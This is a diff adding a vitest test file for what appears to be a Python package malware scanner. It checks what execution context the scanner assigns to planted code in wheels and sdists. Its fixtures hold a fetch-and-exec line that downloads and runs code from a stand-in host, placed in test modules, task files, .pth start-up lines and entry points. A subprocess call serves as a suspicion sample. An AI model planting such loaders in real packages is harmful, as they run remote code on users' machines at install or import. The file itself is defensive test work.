@@ -1,0 +1,131 @@
+import { describe, expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+const FETCH = "urllib.request.urlopen('http://files.example.invalid/p').read()";
+const atImport = python('import urllib.request', `exec(${FETCH})`);
+const onCall = python('import urllib.request', '', 'def go():', `    exec(${FETCH})`);
+
+/** When the malware of an archive runs; undefined: none was found, or it weighs nothing. */
+async function contextIn(packed: ReturnType<typeof wheel>): Promise<string | undefined> {
+  const found = (await inspect('remote-code', packed)).filter(({ class: kind, context }) => {
+    return kind === 'malware' && context !== 'test' && context !== 'none';
+  });
+  return found[0]?.context;
+}
+
+describe('whatever is in site-packages can be imported', () => {
+  test.each([
+    ['a package of tests at the top', { 'tests/__init__.py': atImport }],
+    ['a test beside the package', { 'pkg/__init__.py': '', 'test_pkg.py': atImport }],
+    ['a test inside the package', { 'pkg/__init__.py': '', 'pkg/tests/test_a.py': atImport }],
+    ['a task', { 'pkg/__init__.py': '', 'pkg/tasks.py': atImport }],
+    ['a test in purelib', { 'pkg/__init__.py': '', '*.data/purelib/tests/__init__.py': atImport }],
+  ])('%s runs at import', async (_what, files) => {
+    expect(await contextIn(wheel(files, { name: 'pkg' }))).toBe('import');
+  });
+
+  test.each([
+    ['a module', { 'pkg/__init__.py': 'from tests import go\ngo()\n', 'tests/__init__.py': onCall }, {}, 'import'],
+    [
+      'a start-up line',
+      { 'pkg/__init__.py': '', 'pkg.pth': 'import tests; tests.go()\n', 'tests.py': onCall },
+      {},
+      'start-up',
+    ],
+    [
+      'a command',
+      { 'pkg/__init__.py': '', 'tests/run.py': onCall },
+      { entryPoints: '[console_scripts]\ngo = tests.run:go\n' },
+      'entry-point',
+    ],
+    [
+      'a plug-in',
+      { 'pkg/__init__.py': '', 'pkg/tests/plug.py': onCall },
+      { entryPoints: '[pytest11]\ngo = pkg.tests.plug:go\n' },
+      'import',
+    ],
+    ['another distribution', { 'pkg/__init__.py': '', 'tests/__init__.py': onCall }, {}, 'call'],
+  ])('a test that %s calls runs then', async (_who, files, options, context) => {
+    expect(await contextIn(wheel(files, { name: 'pkg', ...options }))).toBe(context);
+  });
+
+  test('a suspicion weighs less in a test that nothing imports, and its full weight where something does', async () => {
+    const suspicion = python('import subprocess', "subprocess.call(['whoami'])");
+    const files = { 'pkg/__init__.py': '', 'pkg/tests/__init__.py': '', 'pkg/tests/helper.py': suspicion };
+
+    const [idle] = await inspect('unasked-process', wheel(files));
+    const [reached] = await inspect(
+      'unasked-process',
+      wheel({ ...files, 'pkg/__init__.py': 'from pkg.tests import helper\n' }),
+    );
+
+    expect(idle?.score).toBeGreaterThan(0);
+    expect(idle?.score).toBeLessThan(reached?.score ?? 0);
+  });
+});
+
+describe('an sdist', () => {
+  const setup = (...lines: readonly string[]): string =>
+    python('from setuptools import find_packages, setup', ...lines);
+
+  test.each([
+    ['whose package has the name of a folder for examples', { 'example/__init__.py': '', 'example/core.py': onCall }],
+    ['whose package has a module of tasks', { 'pkg/__init__.py': '', 'pkg/tasks.py': onCall }],
+    [
+      'whose packages lie among the tools',
+      {
+        'setup.py': setup("setup(name='x', package_dir={'': 'tools'}, packages=['pkg'])"),
+        'tools/pkg/__init__.py': onCall,
+      },
+    ],
+    [
+      'whose package is made of the documentation',
+      {
+        'setup.py': setup("setup(name='x', packages=['pkg'], package_dir={'pkg': 'docs/impl'})"),
+        'docs/impl/__init__.py': onCall,
+      },
+    ],
+    [
+      'whose folders are computed',
+      {
+        'setup.py': setup("FOLDERS = {'': ''.join(['to', 'ols'])}", "setup(name='x', package_dir=FOLDERS)"),
+        'tools/pkg/__init__.py': onCall,
+      },
+    ],
+    [
+      'whose folders are unknown',
+      {
+        'setup.py': setup('import json', "setup(name='x', package_dir=json.load(open('f')))"),
+        'tools/pkg/__init__.py': onCall,
+      },
+    ],
+    [
+      'whose packages are searched in a folder of setup.cfg',
+      {
+        'setup.cfg': '[options]\npackages = find:\n[options.packages.find]\nwhere = contrib\n',
+        'contrib/pkg/__init__.py': onCall,
+      },
+    ],
+    [
+      'that installs its tests',
+      { 'setup.py': setup("setup(name='x', packages=['pkg', 'tests'])"), 'tests/__init__.py': onCall },
+    ],
+  ])('%s is read like any other', async (_what, files) => {
+    expect(await contextIn(sdist(files))).toBe('call');
+  });
+
+  test('is not calmed by a test that calls what it does', async () => {
+    const files = {
+      'tests/test_a.py': 'from pkg.late import go\n\ndef test_go():\n    go()\n',
+      'pkg/__init__.py': '',
+      'pkg/late.py': onCall,
+    };
+
+    expect(await contextIn(sdist(files))).toBe('call');
+  });
+
+  test('runs what its tests do at their top where they are imported, and weighs nothing that only tests call', async () => {
+    expect(await contextIn(sdist({ 'pkg/__init__.py': '', 'tests/__init__.py': atImport }))).toBe('import');
+    expect(await contextIn(sdist({ 'pkg/__init__.py': '', 'tests/test_a.py': onCall }))).toBeUndefined();
+  });
+});
